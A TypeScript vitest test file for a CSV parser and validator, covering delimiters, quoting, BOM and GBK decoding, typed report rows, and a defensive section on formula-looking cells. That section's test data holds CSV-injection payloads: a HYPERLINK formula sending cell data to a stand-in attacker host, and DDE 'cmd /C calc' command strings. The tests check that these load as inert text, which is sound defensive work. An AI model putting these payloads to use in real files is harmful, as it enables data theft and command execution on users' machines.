import { describe, expect, it } from 'vitest';
import { parseCsv, validateCsvBytes } from './csv';

const enc = (s: string) => new TextEncoder().encode(s);

describe('parseCsv', () => {
	const cases: [string, string, string[], string[][]][] = [
		['comma, CRLF, quoted comma', 'a,b\r\n"x,1",2\r\n', ['a', 'b'], [['x,1', '2']]],
		['tab', 'a\tb\n1\t2\n', ['a', 'b'], [['1', '2']]],
		['semicolon with decimal commas', 'a;b\n1,5;2\n', ['a', 'b'], [['1,5', '2']]],
		['blank lines skipped', 'a,b\n\n1,2\n\n', ['a', 'b'], [['1', '2']]],
		['escaped quotes and newline inside quotes', 'a,b\n"say ""hi""","line1\nline2"\n', ['a', 'b'], [['say "hi"', 'line1\nline2']]]
	];
	it.each(cases)('%s', (_n, text, header, data) => {
		const r = parseCsv('f.csv', text);
		expect(r.header).toEqual(header);
		expect(r.data).toEqual(data);
		expect(r.problems).toEqual([]);
	});
	it('reports an unclosed quote', () => {
		expect(parseCsv('f.csv', 'a,b\n"x,1\n').problems[0].en).toContain('CSV format error');
	});
});

describe('validateCsvBytes: CSV bytes → typed rows', () => {
	it('UTF-8 with BOM, semicolons, percent rate → typed reports rows with notes', () => {
		const v = validateCsvBytes('reports.csv', enc('\uFEFFreport_id;year;execution_rate;synthetic;budget_wan\nu1;2022;95%;false;1,234.5\n'));
		expect(v.problems).toEqual([]);
		expect(v.rows).toEqual([
			expect.objectContaining({
				report_id: 'u1',
				year: 2022,
				execution_rate: 0.95,
				synthetic: false,
				budget_wan: 1234.5,
				source_file: 'reports.csv',
				score: null
			})
		]);
		expect(v.delimiter).toBe(';');
		expect(v.notes.map((n) => n.en)).toContain('delimiter: ;');
	});
	it('GBK bytes are read as GB18030 and their Chinese values survive', () => {
		// "findings" columns; 问题 = CE CA CC E2, 其他 = C6 E4 CB FB in GBK.
		const head = enc('report_id,seq,kind,text,theme\nu1,1,');
		const bytes = new Uint8Array([...head, 0xce, 0xca, 0xcc, 0xe2, 0x2c, 0x78, 0x2c, 0xc6, 0xe4, 0xcb, 0xfb, 0x0a]);
		const v = validateCsvBytes('findings.csv', bytes);
		expect(v.encoding).toBe('gb18030');
		expect(v.rows).toEqual([{ report_id: 'u1', seq: 1, kind: '问题', text: 'x', theme: '其他', evidence_start: null, evidence_end: null }]);
	});
	it('an unclosed quote makes the whole file unloadable', () => {
		const v = validateCsvBytes('reports.csv', enc('report_id,synthetic\nu1,false\n"u2,false\n'));
		expect(v.fatal).toBe(true);
		expect(v.rows).toEqual([]);
	});
});

describe('formula-looking cells', () => {
	const csv = (cells: string[]) =>
		enc(['report_id,seq,kind,text,theme', ...cells.map((c, i) => `u1,${i + 1},问题,"${c.replaceAll('"', '""')}",其他`)].join('\n') + '\n');
	it('are loaded as the text they are, never evaluated, with a note saying so', () => {
		const cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '+1', 'plain'];
		const v = validateCsvBytes('findings.csv', csv(cells));
		expect(v.problems).toEqual([]);
		expect(v.rows.map((r) => r.text)).toEqual(cells);
		expect(v.notes.map((n) => n.en)).toContain(
			"4 text cells start with = + - @ (like spreadsheet formulas): kept as text, never evaluated; CSVs exported here prefix them with '"
		);
	});
	it("the ' this site's CSV exports put before such text comes off again (a downloaded file uploads as it was)", () => {
		const v = validateCsvBytes('findings.csv', csv(["'=1+1", "'@x", "'plain", "''=x"]));
		expect(v.rows.map((r) => r.text)).toEqual(['=1+1', '@x', "'plain", "''=x"]);
		expect(v.notes.map((n) => n.en)).toContain("2 cells: the ' a CSV export put before formula-looking text was removed");
	});
});
